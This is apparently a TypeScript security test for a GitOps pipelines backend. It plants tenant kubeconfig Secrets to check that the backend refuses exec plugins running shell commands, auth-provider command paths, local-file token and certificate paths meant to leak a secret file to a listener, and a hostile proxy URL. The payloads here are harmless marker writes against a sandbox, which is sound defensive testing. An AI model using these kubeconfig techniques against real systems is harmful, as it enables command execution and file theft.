import { CustomObjectsApi } from '@kubernetes/client-node';
import fs from 'fs';
import path from 'path';
import { stringify } from 'yaml';
import {
  applyManagement,
  Attack,
  call,
  eventually,
  pipelinePath,
  SecurityContext,
} from '../context';
import { ENTITIES, pipeline, signedNotification } from '../fixtures';
import { leakedSecrets } from '../listeners';

/*
 * A namespace tenant writes a Secret + GitopsCluster + Pipeline whose kubeconfig asks the
 * backend to run a program, read a local file or go through a proxy. Kubeconfigs from Secrets
 * are data: none of it may happen, and the Pipeline's target says why.
 */

/** The file a tenant would like to exfiltrate: its content must never leave the backend. */
export const stolenFile = (ctx: SecurityContext) =>
  path.join(ctx.dir, 'backend-local-secret.txt');
export const STOLEN_CONTENT = `local-secret-${process.pid}-${Date.now()}`;
const marker = (ctx: SecurityContext, id: string) =>
  path.join(ctx.dir, `marker-${id}`);
const execCredential = JSON.stringify({
  apiVersion: 'client.authentication.k8s.io/v1beta1',
  kind: 'ExecCredential',
  status: { token: 'from-exec' },
});

type Variant = {
  id: string;
  tried: string;
  /** The kubeconfig's cluster and user entries. */
  cluster: (ctx: SecurityContext, id: string) => Record<string, unknown>;
  user: (ctx: SecurityContext, id: string) => Record<string, unknown>;
};

const devServer = (ctx: SecurityContext) => ({
  server: ctx.sandbox.clusters.dev.url,
  'certificate-authority-data': ctx.sandbox.clusters.dev.caData,
});
const recorderServer = (ctx: SecurityContext, id: string) => ({
  server: `${ctx.recorder.url}/kc-${id}`,
});
const readerToken = (ctx: SecurityContext) => ({
  token: ctx.sandbox.targetReaderToken,
});

const VARIANTS: Variant[] = [
  {
    id: 'exec',
    tried: 'users[].user.exec running `sh -c "touch <marker>"`',
    cluster: devServer,
    user: (ctx, id) => ({
      exec: {
        apiVersion: 'client.authentication.k8s.io/v1beta1',
        command: 'sh',
        args: ['-c', `touch ${marker(ctx, id)}; echo '${execCredential}'`],
      },
    }),
  },
  {
    id: 'exec-absolute-env',
    tried: 'exec with an absolute command path and env, besides a token',
    cluster: devServer,
    user: (ctx, id) => ({
      ...readerToken(ctx),
      exec: {
        apiVersion: 'client.authentication.k8s.io/v1',
        command: '/bin/sh',
        args: ['-c', `touch "$MARK"; echo '${execCredential}'`],
        env: [{ name: 'MARK', value: marker(ctx, id) }],
        interactiveMode: 'Never',
      },
    }),
  },
  {
    id: 'auth-provider-gcp-cmd',
    tried: 'auth-provider gcp whose cmd-path runs a shell',
    cluster: devServer,
    user: (ctx, id) => ({
      'auth-provider': {
        name: 'gcp',
        config: {
          'cmd-path': '/bin/sh',
          'cmd-args': `-c "touch ${marker(ctx, id)}"`,
          'token-key': '{.access_token}',
        },
      },
    }),
  },
  {
    id: 'auth-provider-oidc',
    tried: 'auth-provider oidc refreshing at the listener (idp-issuer-url)',
    cluster: devServer,
    user: (ctx, id) => ({
      'auth-provider': {
        name: 'oidc',
        config: {
          'client-id': 'x',
          'client-secret': 'y',
          'idp-issuer-url': `${ctx.recorder.url}/kc-${id}`,
          'refresh-token': 'r',
          'id-token': 'e30.e30.',
        },
      },
    }),
  },
  {
    id: 'token-file',
    tried: 'user.tokenFile naming a backend-local file, server the listener',
    cluster: recorderServer,
    user: ctx => ({ tokenFile: stolenFile(ctx) }),
  },
  {
    id: 'token-file-https',
    tried:
      'user.tokenFile naming a backend-local file, server the real dev cluster',
    cluster: devServer,
    user: ctx => ({ tokenFile: stolenFile(ctx) }),
  },
  {
    id: 'client-cert-files-https',
    tried: 'client-certificate / client-key paths, server the real dev cluster',
    cluster: devServer,
    user: ctx => ({
      'client-certificate': stolenFile(ctx),
      'client-key': stolenFile(ctx),
    }),
  },
  {
    id: 'client-cert-files',
    tried: 'client-certificate / client-key file paths on the backend host',
    cluster: recorderServer,
    user: ctx => ({
      'client-certificate': stolenFile(ctx),
      'client-key': stolenFile(ctx),
    }),
  },
  {
    id: 'certificate-authority-file',
    tried: 'cluster certificate-authority naming a backend-local file',
    cluster: (ctx, id) => ({
      server: `https://127.0.0.1:${new URL(ctx.recorder.url).port}/kc-${id}`,
      'certificate-authority': stolenFile(ctx),
    }),
    user: readerToken,
  },
  {
    id: 'proxy-url',
    tried: 'cluster proxy-url through the listener (valid dev credentials)',
    cluster: ctx => ({ ...devServer(ctx), 'proxy-url': ctx.recorder.url }),
    user: readerToken,
  },
];

const name = (id: string) => `sec-kc-${id}`;

function kubeconfig(ctx: SecurityContext, v: Variant) {
  return stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'target', cluster: v.cluster(ctx, v.id) }],
    users: [{ name: 'tenant', user: v.user(ctx, v.id) }],
    contexts: [
      { name: 'target', context: { cluster: 'target', user: 'tenant' } },
    ],
    'current-context': 'target',
  });
}

/** The tenant's objects of every variant; applied once, before the backend starts. */
export async function applyKubeconfigAttacks(ctx: SecurityContext) {
  fs.writeFileSync(stolenFile(ctx), STOLEN_CONTENT, { mode: 0o600 });
  for (const v of VARIANTS) {
    await applyManagement(ctx, [
      {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: name(v.id), namespace: 'flux-system' },
        type: 'Opaque',
        stringData: { value: kubeconfig(ctx, v) },
      },
      {
        apiVersion: 'gitops.weave.works/v1alpha1',
        kind: 'GitopsCluster',
        metadata: { name: name(v.id), namespace: 'flux-system' },
        spec: { secretRef: { name: name(v.id) } },
      },
      pipeline(name(v.id), {
        entity: ENTITIES.guestApp,
        strategy: signedNotification,
        clusterRef: () => ({
          kind: 'GitopsCluster',
          name: name(v.id),
          namespace: 'flux-system',
        }),
      }),
    ]);
    await markReady(ctx, 'flux-system', name(v.id));
  }
}

/** The GitopsCluster's Ready condition, as Weave's cluster-controller would set it. */
export async function markReady(ctx: SecurityContext, ns: string, n: string) {
  const api =
    ctx.sandbox.clusters.management.admin.makeApiClient(CustomObjectsApi);
  const gvr = {
    group: 'gitops.weave.works',
    version: 'v1alpha1',
    plural: 'gitopsclusters',
    namespace: ns,
    name: n,
  };
  const obj: any = await api.getNamespacedCustomObject(gvr);
  obj.status = {
    conditions: [
      {
        type: 'Ready',
        status: 'True',
        reason: 'Available',
        message: 'cluster is reachable',
        lastTransitionTime: new Date().toISOString(),
      },
    ],
  };
  await api.replaceNamespacedCustomObjectStatus({ ...gvr, body: obj });
}

/** The targets of a pipeline once the backend has decided about them (a message, or a health). */
export async function decidedTargets(
  ctx: SecurityContext,
  path: string,
  timeoutMs = 20_000,
): Promise<any[] | undefined> {
  return eventually(async () => {
    const a = await call(ctx, 'GET', path, { as: 'outsider' });
    const targets = (a.body?.environments ?? []).flatMap((e: any) => e.targets);
    const decided = targets.filter(
      (t: any) => t.message || !['unknown', 'progressing'].includes(t.health),
    );
    return targets.length && decided.length === targets.length && targets;
  }, timeoutMs);
}

export const kubeconfigAttacks: Attack[] = VARIANTS.map(
  (v): Attack => ({
    id: `kubeconfig-${v.id}`,
    tried: `tenant kubeconfig Secret: ${v.tried}`,
    run: async ctx => {
      const targets = await decidedTargets(ctx, pipelinePath(name(v.id)));
      const ran = fs.existsSync(marker(ctx, v.id));
      const seen = ctx.recorder.requests.filter(
        r =>
          r.url.startsWith(`/kc-${v.id}`) ||
          (r.method === 'CONNECT' && v.id === 'proxy-url'),
      );
      const leaked = leakedSecrets(ctx.recorder.requests, {
        file: STOLEN_CONTENT,
      });
      const ready = targets?.some(t => t.health === 'ready');
      const message = targets?.[0]?.message ?? 'no decision within 20 s';
      const refused =
        !ran && !leaked.length && !seen.length && !ready && Boolean(targets);
      const effects = [
        ran && 'the program RAN (marker written)',
        leaked.length && "the local file's content reached the listener",
        seen.length && `${seen.length} request(s) reached the listener`,
        ready && 'the target was read with it',
      ].filter(Boolean);
      return {
        refused,
        happened: `${
          effects.length ? `${effects.join('; ')}; ` : ''
        }target: "${String(message).slice(0, 110)}"`,
      };
    },
  }),
);
